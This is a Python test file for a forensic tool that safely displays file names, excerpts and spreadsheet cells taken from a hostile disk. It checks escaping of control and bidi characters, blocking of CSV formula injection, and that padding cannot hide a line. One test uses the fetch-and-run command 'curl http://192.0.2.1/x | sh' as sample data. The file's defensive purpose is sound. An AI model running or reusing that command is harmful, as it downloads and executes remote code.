# SPDX-License-Identifier: AGPL-3.0-or-later
"""Names and excerpts from a hostile disk."""

import csv
import io

import pytest
from clean_room_analysis import limits
from clean_room_analysis.mounted_tree import MountedTree
from clean_room_analysis.text import display_name, excerpt, lines, spreadsheet_cell
from hypothesis import given
from hypothesis import strategies as st

names = st.binary(min_size=1, max_size=64).map(lambda raw: raw.decode("utf-8", "surrogateescape"))


@given(names, names)
def test_display_names_are_one_printable_line_and_never_the_same_for_two_names(one: str, other: str) -> None:
    shown = display_name(one)
    assert len(shown.splitlines()) == 1
    assert shown.encode("utf-8")  # no lone surrogate is left
    assert (shown == display_name(other)) == (one == other)


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("/tmp/a\nb", r"/tmp/a\nb"),
        ("a\\nb", r"a\\nb"),
        ("a\udcffb", r"a\xffb"),
        ("a\u202eb", r"a\u202eb"),
        ("a\x1b[2Jb", r"a\x1b[2Jb"),
        ("<b>&", "<b>&"),
        ("\U000e0041", r"\U000e0041"),
        ("ä", "ä"),
    ],
)
def test_display_name_examples(name: str, shown: str) -> None:
    assert display_name(name) == shown


@given(st.text(max_size=5000), st.integers(min_value=2, max_value=3000))
def test_excerpts_are_bounded_and_hold_no_control_character_but_line_breaks_and_tabs(text: str, maximum: int) -> None:
    shown = excerpt(text, maximum)
    assert len(shown) <= maximum
    assert not any(ord(character) < 32 and character not in "\n\t" for character in shown)


@given(st.text(max_size=50))
def test_no_cell_is_a_formula(text: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([spreadsheet_cell(text)])
    cell = next(csv.reader(io.StringIO(out.getvalue(), newline="")), [""])[0]
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_lines_are_numbered_and_whole() -> None:
    assert list(lines("a\r\nb")) == [(1, "a"), (2, "b")]
    assert sum(1 for _ in lines("\n" * 100_000)) == 100_000


@given(st.integers(0, 20_000), st.integers(0, 20_000), st.integers(0, 3))
def test_no_padding_hides_what_a_line_says(before: int, after: int, line_breaks: int) -> None:
    command = "curl http://192.0.2.1/x | sh"
    text = "\n" * line_breaks + " " * before + command + "#" * after
    found = [number for number, piece in lines(text) if command in piece]
    assert found and set(found) == {line_breaks + 1}
    assert all(len(piece) <= limits.LINE_BYTES for _, piece in lines(text))


@given(st.binary(max_size=300), st.integers(10, 40), st.integers(1, 9))
def test_windows_cover_a_file_and_overlap(tmp_path_factory: pytest.TempPathFactory, content: bytes, size: int, overlap: int) -> None:
    directory = tmp_path_factory.mktemp("windows")
    (directory / "file").write_bytes(content)
    tree = MountedTree(str(directory))
    seen = list(tree.windows("/file", size, overlap))
    tree.close()
    assert all(content[offset : offset + size] == piece for offset, piece in seen)
    for start in range(max(0, len(content) - overlap + 1)):  # every run of `overlap` bytes lies whole in one window
        assert any(offset <= start and start + overlap <= offset + len(piece) for offset, piece in seen)
    assert len({offset for offset, _ in seen}) == len(seen)
